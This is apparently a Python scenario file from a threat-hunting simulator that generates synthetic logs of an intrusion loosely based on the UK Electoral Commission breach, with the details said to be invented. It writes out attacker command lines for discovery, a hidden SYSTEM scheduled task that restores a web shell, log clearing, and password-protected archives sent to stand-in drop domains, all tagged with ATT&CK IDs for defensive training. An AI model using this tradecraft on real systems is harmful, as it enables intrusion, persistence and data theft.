"""A mail server entered in August, mailboxes and registers taken over a year, noticed in the October after.

The outline is public: the UK Electoral Commission said that its systems were first accessed in August 2021 and that
this was identified in October 2022 (statement of 8 August 2023), and the Information Commissioner's reprimand of
July 2024 names the unpatched mail server. Everything else here is invented: office, people, addresses, tools, times.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime, timedelta

from stillhunt.simulation.background.administration import open_desktop
from stillhunt.simulation.chance import hexadecimal, moment, night, wobble
from stillhunt.simulation.estate import Person
from stillhunt.simulation.intruder import Intruder, export_mailbox, forge_front_end, take_database
from stillhunt.simulation.parts import Part
from stillhunt.simulation.programs import EXCHANGE, SYSTEM32
from stillhunt.simulation.scenario import Scenario
from stillhunt.simulation.scenarios._elections import open_office
from stillhunt.simulation.truth import union
from stillhunt.simulation.world import World

__all__ = ["SCENARIO"]

_N_DAYS = 515
_WEB_ROOT = "C:\\inetpub\\wwwroot\\"
_POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
_FORGED_DOMAINS = ("evil.example", "mailcheck.example", "foo.example", "probe.example")
_DROP_DOMAINS = ("files.sync-cdn.example", "static.cloud-share.example", "update.telemetry-edge.example")
_SHELL_NAMES = ("supp0rt", "errorFE", "client", "logon0", "shared", "resource")
_STAGING = ("C:\\ProgramData\\Oracle", "C:\\PerfLogs\\Admin", "C:\\ProgramData\\USOShared")
_TASKS = ("\\Microsoft\\Windows\\Maintenance\\CacheTask", "\\Microsoft\\Windows\\WDI\\ResolutionCheck")


@dataclass(frozen=True, slots=True, kw_only=True)
class _Plan:
    """What differs from seed to seed: when, from where, under which names."""

    entered: datetime
    dumped: datetime
    spread: datetime
    returned: datetime
    last: datetime
    noticed: datetime
    addresses: tuple[str, ...]
    forged_domain: str
    drop_domain: str
    first_shell: str
    second_shell: str
    staging: str
    task: str
    password: str


def _play(world: World) -> None:
    plan = _plan(world)
    stolen, impersonated = world.untouched(world.estate.administrators)[:2]
    intruder = Intruder(world, plan.entered)
    _break_in(intruder, plan, impersonated)
    _take_passwords(intruder, plan)
    _spread(intruder, plan, stolen)
    _cover(intruder, plan)
    _take_mail(intruder, plan, impersonated)
    _take_register(intruder, plan, stolen, plan.returned + timedelta(days=1, hours=1), 2)
    _take_register(intruder, plan, stolen, plan.last, 3)
    _notice(world, plan)


def _plan(world: World) -> _Plan:
    """Days count from the first of the logs; in an estate of another length the story begins sooner or later."""
    random = world.chance("electoral plan")
    start = world.start
    if world.n_days != _N_DAYS:
        start += timedelta(days=world.chance("electoral days").randrange(-60, world.n_days - _N_DAYS + 1))
    entered = night(random, start, 80, 89)
    return _Plan(
        entered=entered,
        dumped=wobble(random, entered, 86_400, 2.5 * 86_400),
        spread=night(random, start, 155, 162),
        returned=night(random, start, 351, 361),
        last=night(random, start, 474, 486),
        noticed=moment(random, start + timedelta(days=random.randrange(503, 507)), 8.6, 11.0),
        addresses=world.outside(random, 5),
        forged_domain=random.choice(_FORGED_DOMAINS),
        drop_domain=random.choice(_DROP_DOMAINS),
        first_shell=f"{random.choice(_SHELL_NAMES)}{hexadecimal(random, 2)}.aspx",
        second_shell=f"{random.choice(_SHELL_NAMES)}{hexadecimal(random, 3)}.aspx",
        staging=random.choice(_STAGING),
        task=random.choice(_TASKS),
        password=hexadecimal(random, 10),
    )


def _break_in(intruder: Intruder, plan: _Plan, impersonated: Person) -> None:
    """Night one: in through the front end, a web shell, a look around."""
    intruder.come_back(plan.entered, plan.addresses[0])
    forge_front_end(
        intruder,
        impersonated,
        domain=plan.forged_domain,
        page=f"/aspnet_client/{plan.first_shell}",
        on_disk=f"{_WEB_ROOT}aspnet_client\\{plan.first_shell}",
    )
    intruder.begin("a look around", intruder.mail, ("execution", "discovery"), ("T1059.003", "T1033", "T1087.002"))
    intruder.types("whoami", program="whoami.exe")
    intruder.types("ipconfig /all", program="ipconfig.exe")
    intruder.types("tasklist /svc", program="tasklist.exe")
    intruder.types("nltest /domain_trusts", program="nltest.exe")
    intruder.types('net group "Domain Admins" /domain', program="net.exe")


def _take_passwords(intruder: Intruder, plan: _Plan) -> None:
    """A day or two later: the secrets in memory, and then silence for weeks."""
    intruder.come_back(plan.dumped, plan.addresses[0])
    intruder.begin("secrets in memory copied", intruder.mail, ("credential-access",), ("T1003.001",))
    dump = "C:\\Windows\\Temp\\" + plan.password[:4] + ".dmp"
    intruder.dumps_credentials(dump)
    packed = f"{_WEB_ROOT}aspnet_client\\{plan.password[:4]}.cab"
    maker = intruder.types(f"makecab {dump} {packed}", program="makecab.exe")
    intruder.drops(intruder.after(1, 4), intruder.mail, maker, packed)
    intruder.asks(intruder.after(10, 40), "GET", f"/aspnet_client/{plan.password[:4]}.cab", taken_ms=48_211)
    intruder.types(f"del {dump} {packed}")
    estate = intruder.world.estate
    intruder.world.ledger.exposed.extend(estate.account(p) for p in estate.administrators)


def _spread(intruder: Intruder, plan: _Plan, stolen: Person) -> None:
    """November: to the domain controller with a stolen account, and a task that will let them in again."""
    intruder.come_back(plan.spread, plan.addresses[1])
    take_database(intruder, stolen, f"C:\\Windows\\Temp\\{plan.password[4:8]}")
    intruder.begin("a task that restores the web shell", intruder.mail, ("persistence",), ("T1053.005", "T1505.003"))
    spare = f"{plan.staging}\\cache.dat"
    copier = intruder.types(f"copy {_WEB_ROOT}aspnet_client\\{plan.first_shell} {spare}")
    intruder.drops(intruder.after(0.1, 0.4), intruder.mail, copier, spare)
    action = _restoring(plan)
    when = plan.returned - timedelta(hours=2)
    quoted = action.replace('"', '\\"')
    line = (
        f'schtasks /create /tn "{plan.task}" /tr "{quoted}" /sc once /sd {when:%d/%m/%Y} /st {when:%H:%M} /ru SYSTEM /f'
    )
    intruder.types(line, program="schtasks.exe")
    content = _task_content(plan, action, when)
    intruder.mail.register_task(intruder.after(0.1, 0.5), intruder.mail.system, plan.task, content)


def _cover(intruder: Intruder, plan: _Plan) -> None:
    """The same night: the Security log cleared, the first web shell removed; then half a year of silence."""
    intruder.begin("Security log cleared", intruder.mail, ("defense-evasion",), ("T1070.001", "T1070.004"))
    month = plan.spread.replace(day=1, hour=0, minute=0, second=0, microsecond=0)
    intruder.clears_log(month)
    intruder.types(f"del {_WEB_ROOT}aspnet_client\\{plan.first_shell}")


def _take_mail(intruder: Intruder, plan: _Plan, impersonated: Person) -> None:
    """Next May: the task runs, the new web shell answers, mailboxes are exported, packed and sent out."""
    mail, world = intruder.mail, intruder.world
    intruder.come_back(plan.returned - timedelta(hours=2), plan.addresses[2])
    intruder.begin("web shell restored by the task", mail, ("persistence",), ("T1053.005", "T1505.003"))
    at = intruder.after(0, 2)
    mail.run_task(at, plan.task, SYSTEM32 + "cmd.exe", lasts_s=1.2)
    shell = mail.run(
        intruder.after(0.1, 0.3), "cmd.exe", _restoring(plan), parent=mail.standing("svchost.exe:schedule", at)
    )
    intruder.drops(intruder.after(0.05, 0.2), mail, shell, _second_on_disk(plan))
    intruder.page = f"/owa/auth/{plan.second_shell}"
    world.ledger.web_shells.append(intruder.page)
    intruder.come_back(plan.returned, plan.addresses[2])
    intruder.begin("mailboxes exported", mail, ("collection",), ("T1114.002", "T1059.001"))
    folder = f"{plan.staging}\\pst"
    intruder.types(f"mkdir {folder}")
    owners = world.chance("electoral owners").sample(world.estate.staff, 5)
    for owner in owners:
        export_mailbox(intruder, owner, impersonated, f"{folder}\\{owner.login}.pst")
    intruder.begin("mailboxes packed and sent out", mail, ("collection", "exfiltration"), ("T1560.001", "T1048.002"))
    _pack_and_send(intruder, plan, f"{folder}\\*.pst", "p1")


def _take_register(intruder: Intruder, plan: _Plan, stolen: Person, at: datetime, visit: int) -> None:
    """Twice: the register of electors read on the file server, packed there, and sent out through the mail server."""
    server, organisation = intruder.world.machines["FILE01"], intruder.world.estate.organisation
    intruder.come_back(at, plan.addresses[visit])
    tactics = ("lateral-movement", "execution", "collection")
    intruder.begin("register packed on the file server", server, tactics, ("T1021.002", "T1047", "T1560.001"))
    tool = "C:\\PerfLogs\\hc.exe"
    carrier = intruder.types(f"copy {plan.staging}\\hc.exe \\\\{server.host.name}\\c$\\PerfLogs\\hc.exe")
    session = intruder.reaches(server, stolen, with_process=carrier)
    server.open_share(intruder.after(0.1, 0.4), session, "C$", "C:\\")
    server.touch_share_file(intruder.after(0.1, 0.4), session, "C$", "C:\\", "PerfLogs\\hc.exe", is_write=True)
    intruder.drops(intruder.after(0.1, 0.3), server, server.standing("System", at), tool)
    register = organisation.register_file.format(year=at.year)
    packed = f"C:\\PerfLogs\\r{visit}.rar"
    line = f"{tool} a -hp{plan.password} -m3 -v200m {packed} D:\\{organisation.register_share}\\{register}"
    _, shell = intruder.runs_remotely(server, stolen, f"cmd.exe /c {line}")
    packer = server.run(intruder.after(0.1, 0.4), tool, line, parent=shell, disguises="rar.exe", directory="C:\\")
    intruder.drops(intruder.after(0.2, 0.9), server, packer, packed)
    intruder.begin("register sent out", server, ("collection", "exfiltration"), ("T1039", "T1048.002"))
    local = f"D:\\{organisation.register_share}"
    server.open_share(intruder.after(20, 50), session, organisation.register_share, local)
    server.touch_share_file(intruder.after(0.1, 1), session, organisation.register_share, local, register)
    server.touch_share_file(intruder.after(30, 90), session, "C$", "C:\\", packed.partition("\\")[2])
    server.log_off(intruder.after(20, 90), session, 3)
    union(intruder.world.ledger.files_read, (f"{local}\\{register}",))
    union(intruder.world.ledger.shares, (f"\\\\{server.host.name}\\{organisation.register_share}",))
    copied = f"{plan.staging}\\r{visit}.rar"
    copier = intruder.types(f"copy \\\\{server.host.name}\\c$\\PerfLogs\\r{visit}.rar {copied}")
    intruder.drops(intruder.after(0.5, 4), intruder.mail, copier, copied)
    intruder.sends(copied, plan.drop_domain, plan.addresses[4])
    intruder.types(f"del {copied} \\\\{server.host.name}\\c$\\PerfLogs\\hc.exe")


def _pack_and_send(intruder: Intruder, plan: _Plan, what: str, name: str) -> None:
    tool, packed = f"{plan.staging}\\hc.exe", f"{plan.staging}\\{name}.rar"
    intruder.drops(intruder.after(20, 60), intruder.mail, intruder.mail.standing("w3wp.exe:owa", intruder.now), tool)
    packer = intruder.types(
        f"{tool} a -hp{plan.password} -m3 -v200m {packed} {what}", program=tool, disguises="rar.exe"
    )
    intruder.drops(intruder.after(1, 9), intruder.mail, packer, packed)
    intruder.sends(packed, plan.drop_domain, plan.addresses[4])
    intruder.types(f"del {packed} {what}")


def _notice(world: World, plan: _Plan) -> None:
    """October: an administrator looks for scripts that should not be there, and stops the web server."""
    random = world.chance("electoral notice")
    person, at = world.estate.administrators[0], plan.noticed
    mail, dc = world.machines["MAIL01"], world.machines["DC01"]
    world.ledger.noticed_at = at
    session, explorer = open_desktop(world, person, mail, wobble(random, at, -900, -600), random=random)
    mail.run(wobble(random, at, -60, -5), _POWERSHELL, f'"{_POWERSHELL}" ', parent=explorer)
    look = "Get-ChildItem C:\\inetpub, 'C:\\Program Files\\Microsoft\\Exchange Server' -Recurse -Filter *.aspx"
    mail.run_script(at, session, f"{look} | Sort-Object LastWriteTime | Select-Object -Last 20")
    stopped = wobble(random, at, 1500, 2400)
    mail.change_service(stopped, "World Wide Web Publishing Service", "W3SVC", "stopped")
    world.web.stop(stopped)
    desk, _ = open_desktop(world, person, dc, wobble(random, stopped, 300, 600), random=random)
    for number, owner in enumerate((*world.estate.staff, *world.estate.administrators, *world.estate.services)):
        dc.reset_password(wobble(random, stopped, 900 + 20 * number, 915 + 20 * number), desk, owner)


def _restoring(plan: _Plan) -> str:
    return f'cmd.exe /c copy /y {plan.staging}\\cache.dat "{_second_on_disk(plan)}"'


def _second_on_disk(plan: _Plan) -> str:
    return f"{EXCHANGE}FrontEnd\\HttpProxy\\owa\\auth\\{plan.second_shell}"


def _task_content(plan: _Plan, action: str, when: datetime) -> str:
    command, _, arguments = action.partition(" ")
    lines = [
        '<?xml version="1.0" encoding="UTF-16"?>',
        '<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">',
        f"  <RegistrationInfo><URI>{plan.task}</URI></RegistrationInfo>",
        f"  <Triggers><TimeTrigger><StartBoundary>{when:%Y-%m-%dT%H:%M:00}</StartBoundary></TimeTrigger></Triggers>",
        '  <Principals><Principal id="Author"><UserId>S-1-5-18</UserId></Principal></Principals>',
        "  <Settings><Enabled>true</Enabled><Hidden>true</Hidden></Settings>",
        f"  <Actions><Exec><Command>{command}</Command><Arguments>{arguments}</Arguments></Exec></Actions>",
        "</Task>",
    ]
    return "\r\n".join(lines)


SCENARIO = Scenario(
    name="electoral",
    title="A mail server entered in August 2021, noticed fourteen months later",
    summary=(
        "Entry through the mail server's front end, a web shell, secrets from memory, silence; the domain controller"
        " in November, a cleared log, half a year of silence; mailboxes and the register of electors in May and"
        " September; noticed in October 2022."
    ),
    needs=lambda _: frozenset({Part.MAIL_SERVER}),
    play=_play,
    opens=open_office,
)
